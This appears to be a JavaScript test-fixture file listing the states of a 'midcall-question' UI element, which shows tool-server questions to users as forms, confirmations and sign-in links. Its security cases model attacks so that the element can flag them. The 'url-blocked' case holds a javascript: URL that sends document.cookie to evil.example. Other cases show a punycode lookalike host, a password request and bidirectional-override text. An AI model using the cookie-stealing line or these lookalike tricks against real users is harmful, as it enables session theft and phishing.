// The questions that are drawn for the screens: one or more for every state the element has.
import { arabic } from './arabic.mjs';

const now = () => Date.now();
const call = {
  method: 'tools/call',
  name: 'delete_stale_records',
  arguments: { older_than: '2024-01-01', table: 'customers', token: '••••••' },
};
const base = () => ({
  v: 1,
  id: 'pBq2vJ0xW1kq',
  server: { name: 'Records', claim: { name: 'records-admin', version: '1.2' } },
  call,
  revision: '2026-07-28',
  message: 'What should the report cover?',
  findings: [],
  state: 'waiting',
  askedAt: now() - 130_000,
  expiresAt: now() + 588_000,
  extendable: true,
});
const form = fields => ({ fields, schema: { type: 'object', properties: {} }, revision: '2026-07-28' });
const options = titles => titles.map(title => ({ value: title.split(' (')[0].toLowerCase().replaceAll(' ', '-'), title }));
const cities = [
  'Aberdeen',
  'Amsterdam',
  'Athens',
  'Barcelona',
  'Belgrade',
  'Berlin',
  'Bern',
  'Bilbao',
  'Bologna',
  'Bordeaux',
  'Bratislava',
  'Bremen',
  'Brno',
  'Brussels',
  'Bucharest',
  'Budapest',
  'Cologne',
  'Copenhagen',
  'Dresden',
  'Dublin',
];

const everyKind = () =>
  form([
    { kind: 'text', name: 'title', label: 'Title', description: 'Shown on the first page.', required: true, maxLength: 80 },
    { kind: 'text', name: 'mail', label: 'Send a copy to', required: false, format: 'email' },
    { kind: 'choice', name: 'env', label: 'Environment', required: true, options: options(['Staging', 'Production (live traffic)']) },
    {
      kind: 'number',
      name: 'threshold',
      label: 'Threshold',
      description: 'Rows below it are left out.',
      required: true,
      minimum: 0,
      maximum: 10000,
      default: 12.5,
    },
    { kind: 'boolean', name: 'archive', label: 'Archive the old report?', required: false },
    { kind: 'text', name: 'when', label: 'When should it run?', required: true, format: 'date-time' },
    {
      kind: 'choices',
      name: 'teams',
      label: 'Teams to tell',
      required: false,
      minItems: 1,
      maxItems: 2,
      options: options(['Finance', 'Legal', 'Support']),
    },
    { kind: 'text', name: 'notes', label: 'Notes', required: false, maxLength: 2000 },
  ]);

const el = page => page.locator('midcall-question');
const fillAll = async page => {
  await el(page).getByLabel('Title').fill('Quarterly retention report');
  await el(page).getByLabel('Production (live traffic)').check();
  await el(page).getByLabel('Date', { exact: true }).fill('2026-12-01');
  await el(page).getByLabel('Time', { exact: true }).fill('09:30');
  await el(page).getByLabel('Finance').check();
  await el(page).getByLabel('Notes').fill('Two lines:\nplease keep them.');
};

export const questions = {
  confirm: {
    view: () => ({
      ...base(),
      message: 'Delete 4,012 rows?',
      form: form([{ kind: 'boolean', name: 'ok', label: 'I understand that the 4,012 rows cannot be brought back', required: true }]),
    }),
    act: async page => el(page).getByRole('button', { name: 'show what was sent' }).click(),
  },
  'confirm-ticked': {
    view: () => ({
      ...base(),
      message: 'Delete 4,012 rows?',
      form: form([{ kind: 'boolean', name: 'ok', label: 'I understand that the 4,012 rows cannot be brought back', required: true }]),
    }),
    act: async page => el(page).getByRole('checkbox').check(),
  },
  'every-kind': { view: () => ({ ...base(), form: everyKind() }), act: fillAll },
  errors: {
    view: () => ({ ...base(), form: everyKind() }),
    act: async page => {
      await el(page).getByLabel('Send a copy to').fill('nobody');
      await el(page).getByRole('button', { name: 'Check your answers' }).click();
    },
  },
  check: {
    view: () => ({ ...base(), form: everyKind() }),
    act: async page => {
      await fillAll(page);
      await el(page).getByRole('button', { name: 'Check your answers' }).click();
    },
  },
  rejected: {
    view: () => ({
      ...base(),
      message: 'Which release window?\nThe one you chose has closed.',
      form: form([
        {
          kind: 'choice',
          name: 'slot',
          label: 'Window',
          required: true,
          options: options(['Tonight 22:00', 'Tomorrow 06:00', 'Tomorrow 22:00']),
        },
      ]),
      rejected: [{ field: 'slot', rule: 'not-an-option', message: 'Choose another window: tonight 20:00 has closed' }],
    }),
  },
  list: {
    view: () => ({
      ...base(),
      message: 'Three people are called Chris. Which one should get access?',
      server: { name: 'Directory' },
      call: { method: 'tools/call', name: 'grant_access', arguments: {} },
      form: form([
        {
          kind: 'choice',
          name: 'who',
          label: 'Person',
          required: true,
          options: options([
            'Chris Adebayo · Finance',
            'Chris Lindqvist · Support, Malmö',
            'Chris Moreau · Legal',
            'Chris Novak · Warehouse',
            'Chris Okafor · Finance',
            'Chris Petrov · Research',
            'Somebody else',
          ]),
        },
      ]),
    }),
    act: async page => el(page).getByLabel('Chris Lindqvist').check(),
  },
  search: {
    view: () => ({
      ...base(),
      message: 'From which warehouse does the order leave?',
      server: { name: 'Logistics', claim: { name: 'ship-it' } },
      call: { method: 'tools/call', name: 'create_shipment', arguments: { order: 'A-1042' } },
      form: form([
        {
          kind: 'choice',
          name: 'from',
          label: 'Warehouse',
          required: true,
          options: options(cities.flatMap(city => [`${city} North`, `${city} South`])),
        },
        { kind: 'choices', name: 'via', label: 'Hubs on the way', required: false, maxItems: 3, options: options(cities) },
      ]),
    }),
    act: async page => {
      await el(page).locator('#field-1').fill('br');
      await el(page).getByRole('option', { name: 'Brno' }).click();
      await el(page).getByRole('option', { name: 'Brussels' }).click();
      await el(page).locator('#field-0').fill('ber');
      await el(page).getByRole('option', { name: 'Berlin South' }).click();
    },
  },
  url: {
    view: () => ({
      ...base(),
      server: { name: 'Calendar', claim: { name: 'calendar-mcp', version: '3.0' } },
      call: { method: 'tools/call', name: 'list_events', arguments: {} },
      message: 'To read your calendar, sign in at the provider and allow access.',
      url: {
        href: 'https://accounts.example.com/o/authorize?flow=7f3c0d1e9a5b4c28&return=https%3A%2F%2Fcalendar.example.net%2Fdone',
        host: 'accounts.example.com',
        openable: true,
      },
    }),
  },
  'url-odd': {
    view: () => ({
      ...base(),
      server: { name: 'Calendar' },
      message: 'Sign in to go on.',
      url: {
        href: 'https://accounts.example.com.login.xn--80ak6aa92e.example/o?flow=7f3c',
        host: 'accounts.example.com.login.xn--80ak6aa92e.example',
        openable: true,
      },
      findings: [
        {
          id: 'punycode-host',
          severity: 'warning',
          where: 'url',
          span: [35, 57],
          sentence: 'The host is written in another alphabet: it may only look like one you know.',
        },
        {
          id: 'deep-host',
          severity: 'warning',
          where: 'url',
          sentence: 'The address begins like accounts.example.com, but belongs to xn--80ak6aa92e.example.',
        },
      ],
    }),
  },
  'url-opened': {
    view: () => ({
      ...base(),
      state: 'opened',
      server: { name: 'Calendar', claim: { name: 'calendar-mcp', version: '3.0' } },
      message: 'To read your calendar, sign in at the provider and allow access.',
      url: { href: 'https://accounts.example.com/o/authorize?flow=7f3c0d1e9a5b4c28', host: 'accounts.example.com', openable: true },
    }),
  },
  'url-blocked': {
    view: () => ({
      ...base(),
      message: 'Open this to continue.',
      url: { href: "javascript:fetch('https://evil.example/'+document.cookie)", host: '', openable: false },
      findings: [
        { id: 'scheme', severity: 'danger', where: 'url', sentence: 'This is not a web address: it would run a program in this page.' },
      ],
    }),
  },
  secret: {
    view: () => ({
      ...base(),
      message: 'Please enter your password to continue.',
      form: form([{ kind: 'text', name: 'password', label: 'Password', required: true }]),
      findings: [
        { id: 'secret-ask', severity: 'danger', where: { field: 'password' }, sentence: 'The field “Password” asks for a password.' },
      ],
    }),
    element: { offers: { cutOff: true, mute: true } },
  },
  warning: {
    view: () => ({
      ...base(),
      message: 'Approve the invoice at https://pay.example.com/8841 \u202eslliB\u202c now?',
      form: form([{ kind: 'boolean', name: 'ok', label: 'I have checked the amount', required: true }]),
      findings: [
        {
          id: 'bidi',
          severity: 'warning',
          where: 'message',
          span: [53, 60],
          sentence: 'The message holds characters that turn the reading direction around.',
        },
      ],
    }),
    act: async page => el(page).getByRole('button', { name: 'More for this question' }).click(),
    element: { offers: { cutOff: true, mute: true } },
  },
  long: {
    view: () => ({
      ...base(),
      message: Array.from(
        { length: 22 },
        (_, i) => `${i + 1}. Move the records of region ${i + 1} to the archive and tell its owner about it.`,
      ).join('\n'),
      form: form([
        {
          kind: 'choice',
          name: 'go',
          label: 'How to proceed',
          required: true,
          options: options(['All of them', 'Only regions 1 to 10', 'None']),
        },
      ]),
    }),
  },
  opaque: {
    view: () => ({
      ...base(),
      form: form([
        {
          kind: 'opaque',
          name: 'filter',
          label: 'Filter',
          description: 'Rows that match are kept.',
          required: false,
          schema: { type: 'object', properties: { from: { type: 'string' } } },
        },
        { kind: 'text', name: 'day', label: 'Day', required: true, format: 'date' },
      ]),
    }),
  },
  leaving: {
    view: () => ({ ...base(), form: form([{ kind: 'text', name: 'why', label: 'Why is this needed?', required: true }]) }),
    act: async page => {
      await el(page).getByLabel('Why is this needed?').fill('The audit asked for it');
      await page.keyboard.press('Escape');
    },
  },
  saved: { view: () => ({ ...base(), state: 'saved', action: 'accept', form: everyKind() }) },
  delivered: { view: () => ({ ...base(), state: 'delivered', action: 'accept', form: everyKind() }) },
  undeliverable: { view: () => ({ ...base(), state: 'undeliverable', action: 'accept', form: everyKind() }) },
  declined: { view: () => ({ ...base(), state: 'delivered', action: 'decline', form: everyKind() }) },
  withdrawn: {
    view: () => ({
      ...base(),
      state: 'withdrawn',
      form: everyKind(),
      draft: { v: 1, at: 0, values: [['title', 'Quarterly retention report']] },
    }),
  },
  expired: { view: () => ({ ...base(), state: 'expired', form: everyKind() }) },
  elsewhere: {
    view: () => ({ ...base(), form: everyKind() }),
    act: async page => {
      await el(page).getByLabel('Title').fill('Quarterly retention report');
      await el(page).evaluate(element => {
        element.question = { ...element.question, state: 'delivered', action: 'decline' };
      });
    },
  },
  rtl: { view: () => ({ ...base(), form: everyKind() }), element: { locale: 'ar', packs: [arabic] } },
  german: { view: () => ({ ...base(), form: everyKind() }), element: { locale: 'de' } },
};
